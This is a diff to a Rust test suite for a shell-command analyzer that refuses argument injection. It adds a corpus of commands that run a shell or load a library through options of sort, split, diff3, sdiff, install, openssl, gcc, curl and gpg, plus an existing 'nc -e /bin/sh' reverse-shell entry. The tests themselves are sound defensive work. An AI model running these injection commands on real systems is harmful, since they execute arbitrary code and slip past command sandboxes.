@@ -83,6 +83,16 @@ const ALLOWLIST: &[&str] = &[
     "mksh-static",
     "original-awk",
     "xdg-open",
+    // Programs that run a program named by an option: only their plain forms pass.
+    "sort",
+    "split",
+    "diff3",
+    "sdiff",
+    "install",
+    "openssl",
+    "gcc",
+    "curl",
+    "gpg",
 ];
 
 /// Programs the trusted `bin` holds besides the allowlisted ones.
@@ -548,6 +558,83 @@ const CORPUS: &[(&str, &str, &str)] = &[
     ("nc -e", "nc -e /bin/sh host 1", "`-e`"),
     ("empty segment", "ls && && sh", "empty command"),
     ("leading operator", "; sh", "empty command"),
+    // Programs that run a program or code named by an option. Confirmed by running (coreutils
+    // 9.1, diffutils 3.8, OpenSSL 3.0, gcc 12), each making a `/tmp/pwned-N` file:
+    // `sort -S 16K -T /tmp --compress-prog=P in` (with enough input to spill), `split --fi=P -l
+    // 100000 in`, `diff3 --diff-prog=P a b c`, `install -s --strip-prog=P a b`,
+    // `EDITOR=P sdiff -o out a b` with `eb` on stdin, `sdiff --diff-prog=P a b`,
+    // `openssl req -engine=/tmp/x.so` (the table matched `-engine` exactly),
+    // `openssl req -config cnf` (an engine's `dynamic_path`), `gcc -wrapper P -c m.c`.
+    (
+        "sort --compress-program",
+        "sort -S 16K -T /tmp --compress-program=sh /tmp/in.txt",
+        "--compress-program=sh",
+    ),
+    (
+        "sort --compress-prog abbreviated",
+        "sort -S 16K --compress-prog=sh /tmp/in.txt",
+        "--compress-prog=sh",
+    ),
+    (
+        "sort --compress-p separate value",
+        "sort /tmp/in.txt --compress-p sh",
+        "--compress-p",
+    ),
+    (
+        "split --filter",
+        "split --filter=sh /tmp/in.txt",
+        "--filter=sh",
+    ),
+    (
+        "split --fi abbreviated",
+        "split -l 10 --fi=sh /tmp/in.txt",
+        "--fi=sh",
+    ),
+    (
+        "diff3 --diff-program",
+        "diff3 --diff-prog=sh a b c",
+        "--diff-prog=sh",
+    ),
+    (
+        "sdiff --diff-program",
+        "sdiff --diff-program sh a b",
+        "--diff-program",
+    ),
+    (
+        "sdiff -o runs an editor",
+        "printf 'eb' | sdiff -o out a b",
+        "`-o`",
+    ),
+    (
+        "install --strip-program",
+        "install -s --strip-prog=sh a /tmp/b",
+        "--strip-prog=sh",
+    ),
+    (
+        "openssl -engine=",
+        "openssl req -engine=/tmp/x.so",
+        "-engine=/tmp/x.so",
+    ),
+    (
+        "openssl --engine",
+        "openssl req --engine /tmp/x.so",
+        "--engine",
+    ),
+    ("openssl -config", "openssl req -config cnf -new", "-config"),
+    ("gcc -wrapper", "gcc -wrapper sh,-c,id -c m.c", "-wrapper"),
+    ("gcc -fplugin", "gcc -fplugin=/tmp/x.so m.c", "-fplugin"),
+    ("gcc response file", "gcc @opts m.c", "`@`"),
+    ("curl -K", "curl -sSK cfg https://example.com", "-sSK"),
+    (
+        "gpg --photo-viewer",
+        "gpg --photo-viewer=sh --list-keys",
+        "--photo-viewer",
+    ),
+    (
+        "gpg show-photos",
+        "gpg --list-options show-photos --list-keys",
+        "show-photos",
+    ),
 ];
 
 struct Corpus {
@@ -642,6 +729,47 @@ fn every_listed_program_is_refused_under_every_variant_name() {
         .collect();
     assert!(approved.is_empty(), "approved: {approved:?}");
     assert!(names.len() > 1000, "{}", names.len());
+}
+
+/// Every entry of the option table in every spelling
+/// ([`refused_spellings`](injection::refused_spellings)), through the whole analyzer, with
+/// every program of the table allowlisted.
+#[test]
+fn every_option_that_runs_a_program_is_refused_in_every_spelling() {
+    let sandbox = Sandbox::new("option-table");
+    let bin = sandbox.dir("bin");
+    let ws = sandbox.dir("ws");
+    let spellings = injection::refused_spellings();
+    let mut programs: Vec<&str> = spellings.iter().map(|(program, _)| *program).collect();
+    programs.dedup();
+    for program in &programs {
+        sandbox.exe(&format!("bin/{program}"));
+    }
+    let options = AnalyzeOptions {
+        cwd: Some(ws),
+        allowlist: programs.iter().map(|p| p.to_string()).collect(),
+        trusted_dirs: vec![bin.clone()],
+        path: Some(bin.display().to_string()),
+        ..AnalyzeOptions::default()
+    };
+    let mut failures = Vec::new();
+    for (program, args) in &spellings {
+        let command = format!("{program} {args}");
+        let analysis = analyze_command(&command, &options);
+        let reason = analysis.reason.unwrap_or_default();
+        // `sftp` is refused outright, before its arguments are read.
+        let refused = reason.contains("argument injection") || reason.contains("refused outright");
+        if analysis.approved || !refused {
+            failures.push(format!("{command} -> {reason}"));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+    // The same programs with a plain operand are approved (but `ssh host` runs a remote shell
+    // and `sftp` is refused outright).
+    for program in programs.iter().filter(|p| !matches!(**p, "ssh" | "sftp")) {
+        let analysis = analyze_command(&format!("{program} in.txt"), &options);
+        assert!(analysis.approved, "{program}: {analysis:?}");
+    }
 }
 
 #[test]
@@ -756,6 +884,17 @@ fn positive_controls_are_approved() {
         "perl script.py",
         "m4 script.py",
         "dc script.py",
+        // Programs that can run a program named by an option, in their plain forms.
+        "sort -u in.txt",
+        "sort -S 16K -T /tmp -t , -k 2n -o out.txt in.txt",
+        "split -l 10 in.txt",
+        "diff3 -m a b c",
+        "sdiff -s a b",
+        "install -m 644 a /tmp/b",
+        "openssl x509 -in c.pem -noout -text",
+        "gcc -O2 -Wall -o a a.c -lm",
+        "curl -sSfL -o out https://example.com",
+        "gpg --verify a.sig a",
         "git log --oneline -n 5 && git diff | cut -d , -f 1 | uniq -c | tr a-z A-Z",
         "echo 'a b' \"c d\" e\\ f",
     ];
